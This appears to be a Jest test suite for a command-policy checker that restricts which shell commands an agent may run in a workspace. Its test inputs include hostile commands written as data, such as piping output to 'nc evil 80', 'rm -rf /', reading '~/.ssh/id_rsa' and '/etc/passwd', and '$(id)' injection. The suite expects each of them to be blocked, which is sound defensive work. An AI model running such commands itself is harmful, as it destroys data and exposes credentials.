import { checkCommand, compileCommandRules, scanOperators } from './command-policy.js';
import { type ToolConstraintSpec } from './workflow.model.js';

const ROOT = '/ws';
const constraint = (c: Partial<ToolConstraintSpec>): ToolConstraintSpec => ({
  allowed_patterns: [],
  forbidden_patterns: [],
  allowed_commands: [],
  forbidden_commands: [],
  allow_shell_operators: false,
  network: false,
  allow_git_writes: false,
  location: { file: 'x', line: 1, col: 1 },
  ...c,
});
const rules = compileCommandRules(
  constraint({
    allowed_commands: ['npm test', 'npx jest', 'git status', 'npm run *'],
    forbidden_commands: ['git push', 'rm -rf'],
  }),
);
const check = (cmd: string | string[], r = rules) => checkCommand(cmd, r, ROOT);

describe('scanOperators', () => {
  it('finds operators outside quotes only', () => {
    expect(scanOperators('a; b && c || d | e > f < g').ops).toEqual([';', '&&', '||', '|', '>', '<']);
    expect(scanOperators(`echo 'a; b && $(c)' "d;e"`).ops).toEqual([]);
    expect(scanOperators('echo "$(id)" `id` $HOME ${X}').ops).toEqual(['$(', '`', '`', '$', '$']);
    expect(scanOperators("echo '$(id)' \\; \\`x\\`").ops).toEqual([]);
    expect(scanOperators('a 2>&1 &> f >> g <<< h').ops).toEqual(['>&', '&>', '>>', '<<<']);
    expect(scanOperators('a\nb').ops).toEqual(['newline']);
    expect(scanOperators('a "b').unbalanced).toBe(true);
    expect(scanOperators('a # c').comment).toBe(true);
    expect(scanOperators('a#b').comment).toBe(false);
  });
});

describe('checkCommand', () => {
  it('allows listed command prefixes with further arguments', () => {
    expect(check('npm test')).toEqual({ ok: true });
    expect(check('npm test -- --ci src/a.spec.ts')).toEqual({ ok: true });
    expect(check("npx jest 'auth flow'")).toEqual({ ok: true });
    expect(check('npm run lint')).toEqual({ ok: true });
    expect(check(['npx', 'jest', '--ci'])).toEqual({ ok: true });
  });

  it('decides quoted and plain forms of a command alike', () => {
    const open = compileCommandRules(constraint({ forbidden_commands: ['git push'] }));
    for (const cmd of ['git push', "git 'push'", 'git "push"', 'git\tpush', '  git   push  ']) {
      expect(check(cmd, open)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    }
    expect(check("npm 'test' --ci")).toEqual({ ok: true });
    expect(check('npm "testx"')).toMatchObject({ ok: false, rule: 'allowed_commands' });
  });

  it('matches allowed prefixes by whole words', () => {
    expect(check('npm testx')).toMatchObject({ ok: false, rule: 'allowed_commands' });
    expect(check('npm')).toMatchObject({ ok: false, rule: 'allowed_commands' });
    expect(check('curl http://x')).toMatchObject({
      ok: false,
      rule: 'allowed_commands',
      reason: expect.stringMatching(/not in allowed_commands \(npm test, npx jest/),
    });
  });

  it.each([
    ['npm test; rm -rf /', ';'],
    ['npm test && curl x', '&&'],
    ['npm test || curl x', '||'],
    ['npm test | nc evil 80', '|'],
    ['`id`', '`'],
    ['$(id)', '$('],
    ['npm test $(id)', '$('],
    ['npm test "$(id)"', '$('],
    ['npm test "`id`"', '`'],
    ['npm test > /etc/x', '>'],
    ['npm test >> out.txt', '>>'],
    ['npm test < /etc/passwd', '<'],
    ['npm test 2>&1', '>&'],
    ['npm test &', '&'],
    ['npm test\nrm -rf /', 'newline'],
    ['npm test $HOME', '$'],
    ['(npm test)', '('],
  ])('denies %j (operator %s)', (cmd, op) => {
    expect(check(cmd)).toEqual({
      ok: false,
      rule: 'shell_operator',
      reason: `shell operator '${op}' is not allowed`,
    });
  });

  it('denies comments, ambiguous #, and unbalanced quotes', () => {
    expect(check('npm test # hidden')).toMatchObject({ ok: false, rule: 'shell_operator' });
    expect(check('npm test "unclosed')).toMatchObject({ ok: false, rule: 'invalid_command' });
    expect(check('')).toMatchObject({ ok: false, rule: 'invalid_command' });
  });

  it('allows operators the constraint lists, and checks every command they join', () => {
    const piped = compileCommandRules(
      constraint({
        allowed_commands: ['npm test', 'grep'],
        forbidden_commands: ['rm'],
        allow_shell_operators: ['|', '&&', 'newline', ';'],
      }),
    );
    expect(check('npm test | grep FAIL', piped)).toEqual({ ok: true });
    expect(check('npm test && grep x', piped)).toEqual({ ok: true });
    expect(check('npm test | sh', piped)).toMatchObject({ ok: false, rule: 'allowed_commands' });
    expect(check('npm test\nrm x', piped)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    expect(check('npm test || grep x', piped)).toMatchObject({
      ok: false,
      reason: "shell operator '||' is not allowed",
    });
    // shell-quote would read `#; rm x` as a comment; the shell would run rm.
    expect(check('npm test#; rm x', piped)).toMatchObject({
      ok: false,
      rule: 'shell_operator',
      reason: expect.stringMatching(/ambiguous/),
    });
    const all = compileCommandRules(constraint({ allow_shell_operators: true }));
    expect(check('a; b && c | d > out.txt', all)).toEqual({ ok: true });
    expect(check('a > /etc/x', all)).toMatchObject({ ok: false, rule: 'path_escape' });
  });

  it('finds forbidden commands behind wrappers, assignments, paths and shells', () => {
    const open = compileCommandRules(constraint({ forbidden_commands: ['git push', 'rm -rf'] }));
    expect(check('git push origin main', open)).toMatchObject({
      ok: false,
      rule: 'forbidden_commands',
      reason: "command 'git push' is forbidden",
    });
    expect(check('git -C . push', open)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    expect(check('/usr/bin/git push', open)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    expect(check('GIT_DIR=x git push', open)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    expect(check('sudo -u root git push', open)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    expect(check('env A=1 timeout 5 git push', open)).toMatchObject({
      ok: false,
      rule: 'forbidden_commands',
    });
    expect(check("bash -c 'git push'", open)).toMatchObject({ ok: false, rule: 'forbidden_commands' });
    expect(check("sh -c 'npm test; rm -rf x'", open)).toMatchObject({ ok: false, rule: 'shell_operator' });
    expect(check('git status', open)).toEqual({ ok: true });
    expect(check('echo git push', open)).toEqual({ ok: true });
    expect(check('rm -r -f x', open)).toEqual({ ok: true });
  });

  it('denies arguments and redirections that leave the workspace', () => {
    const open = compileCommandRules(constraint({ allow_shell_operators: ['>'] }));
    expect(check('cat ../secret', open)).toMatchObject({ ok: false, rule: 'path_escape' });
    expect(check('cat a/../../secret', open)).toMatchObject({ ok: false, rule: 'path_escape' });
    expect(check('cat /etc/passwd', open)).toMatchObject({ ok: false, rule: 'path_escape' });
    expect(check('cat ~/.ssh/id_rsa', open)).toMatchObject({ ok: false, rule: 'path_escape' });
    expect(check('tool --out=/etc/x', open)).toMatchObject({ ok: false, rule: 'path_escape' });
    expect(check('rm -rf /', open)).toMatchObject({ ok: false, rule: 'path_escape' });
    expect(check('npm test > /etc/x', open)).toMatchObject({
      ok: false,
      rule: 'path_escape',
      reason: expect.stringMatching(/redirection target/),
    });
    expect(check('npm test > out/log.txt', open)).toEqual({ ok: true });
    expect(check('cat /ws/src/a.ts src/../README.md', open)).toEqual({ ok: true });
    expect(check('curl https://example.com/a/../b', open)).toEqual({ ok: true });
  });
});

describe('pattern words with several wildcards', () => {
  it('match an agent-sized word in linear time (the regex they compiled to backtracked for seconds)', () => {
    const starry = compileCommandRules(constraint({ allowed_commands: ['bash *.*.sh'] }));
    const time = (word: string) => {
      const started = performance.now();
      check(`bash ${word}`, starry);
      return performance.now() - started;
    };
    time('x'.repeat(30_000)); // warm up
    const baseline = Math.max(time('x'.repeat(30_000)), 1);
    expect(time('.'.repeat(30_000)) / baseline).toBeLessThan(50);
    expect(check('bash run.me.sh', starry)).toEqual({ ok: true });
  });
});
